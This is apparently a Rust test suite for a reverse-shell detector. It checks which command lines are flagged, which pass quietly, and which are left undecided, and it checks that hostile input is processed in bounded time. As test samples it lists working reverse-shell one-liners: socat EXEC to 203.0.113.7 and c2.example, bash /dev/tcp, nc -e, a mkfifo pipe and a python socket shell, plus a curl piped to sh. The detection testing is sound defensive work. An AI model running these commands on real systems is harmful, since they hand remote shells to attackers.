use super::{Tried, attempt};
use detection::{Truth, Verdict};

const SOCAT: &str = "SOCAT_REVERSE_SHELL_DETECTED";
const REVERSE: &str = "REVERSE_SHELL";

fn tried(module: &str, command_line: &str) -> Tried {
    attempt(command_line).into_iter().find(|tried| tried.module == module).unwrap()
}

#[test]
fn command_lines_that_hand_a_shell_to_somebody_are_found_by_the_detector_that_names_them() {
    for command_line in [
        "socat TCP:203.0.113.7:4444 EXEC:/bin/sh,pty",
        "socat tcp-connect:203.0.113.7:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane",
        "socat OPENSSL:c2.example:443,verify=0 EXEC:/bin/bash,pipes",
        "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh",
        "socat TCP:h:1 SYSTEM:'sh -i'",
        "socat TCP:h:1 EXEC:sh,nofork",
        "socat UDP-RECVFROM:1 EXEC:sh",
        "nohup timeout 60 socat TCP:h:1 EXEC:sh >/dev/null 2>&1 &",
        "sh -c 'socat TCP:h:1 EXEC:sh'",
        "socat UNIX-LISTEN:/s EXEC:sh & socat TCP:h:1 UNIX-CONNECT:/s",
    ] {
        let tried = tried(SOCAT, command_line);
        assert_eq!(tried.verdict, Verdict::Found, "{command_line}: {:#?}", tried.conditions);
    }
    for command_line in [
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "sh -c 'exec /bin/sh </dev/tcp/127.0.0.1/1 >&0'",
        "nc -e /bin/sh 203.0.113.7 4444",
        "ncat --sh-exec 'bash -i' -l 4444",
        "busybox nc 203.0.113.7 4444 -e sh",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 >/tmp/f",
        "exec 5<>/dev/tcp/203.0.113.7/4444; while read line <&5; do eval \"$line\" >&5 2>&5; done",
    ] {
        let tried = tried(REVERSE, command_line);
        assert_eq!(tried.verdict, Verdict::Found, "{command_line}: {:#?}", tried.conditions);
    }
}

#[test]
fn command_lines_that_do_not_are_quiet_and_say_why() {
    for command_line in [
        "ls -l",
        "socat TCP-LISTEN:80,fork TCP:10.0.0.9:8080",
        "socat - TCP:h:1",
        "socat TCP-LISTEN:1,fork SYSTEM:'date; echo hello'",
        "curl http://203.0.113.7/x.sh | sh",
        "nc -z h 80",
        "echo uptime | sh",
        "",
        "# nothing",
    ] {
        for tried in attempt(command_line) {
            assert_eq!(tried.verdict, Verdict::Quiet, "{command_line}: {tried:#?}");
            let refuted = |c: &detection::Condition| c.truth == Truth::False && !c.reason.is_empty();
            assert!(tried.conditions.iter().any(refuted), "{command_line}");
        }
    }
}

#[test]
fn what_a_command_line_does_not_tell_is_unknown() {
    let python =
        "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0);os.system(\"/bin/sh\")'";
    for command_line in ["sh -i", "bash", "sh /srv/answer.sh", "python3", python] {
        let tried = tried(SOCAT, command_line);
        assert_eq!(tried.verdict, Verdict::Undecided, "{command_line}: {:#?}", tried.conditions);
    }
    let first = &tried(SOCAT, "socat TCP:h:1 EXEC:sh").conditions[0];
    assert!(first.reason.starts_with("looked at: sh, started by socat; assumed: "), "{}", first.reason);
    let way = &tried(SOCAT, "socat TCP:192.0.2.7:1 EXEC:sh").conditions[2].reason;
    assert_eq!(way, "through socat to the connection with 192.0.2.7:1", "nobody has a number there");
}

#[test]
fn what_socat_would_refuse_is_not_found() {
    let tried = tried(SOCAT, "socat TCP:h:1 EXEC:sh TCP:h:2");
    assert_eq!(tried.verdict, Verdict::Quiet);
    let refused = tried.conditions.iter().find(|c| c.text == "socat accepts its command line").unwrap();
    assert!(refused.reason.contains("exactly two addresses"), "{}", refused.reason);
}

#[test]
fn hostile_text_is_looked_at_in_bounded_time() {
    for text in [
        "(".repeat(4_000),
        "sh -c '".repeat(500),
        "socat ".repeat(680),
        "a|".repeat(2_000),
        "socat TCP:h:1 EXEC:sh;".repeat(180),
        "mkfifo f;cat f|".repeat(270),
        "\u{0}\u{202e}$(${".repeat(400),
        format!("exec 5<>/dev/tcp/h/1; while read l <&5; do eval \"$l\"; done; {}", "a|".repeat(1_900)),
        format!("socat TCP:{} EXEC:{}", "a:".repeat(900), "\"".repeat(900)),
    ] {
        let began = std::time::Instant::now();
        assert_eq!(attempt(&text).len(), 2);
        let start = text.get(..20).unwrap_or_default();
        eprintln!("{start:?}: {:?}", began.elapsed());
        assert!(began.elapsed() < std::time::Duration::from_secs(20), "{start:?}: {:?}", began.elapsed());
    }
}
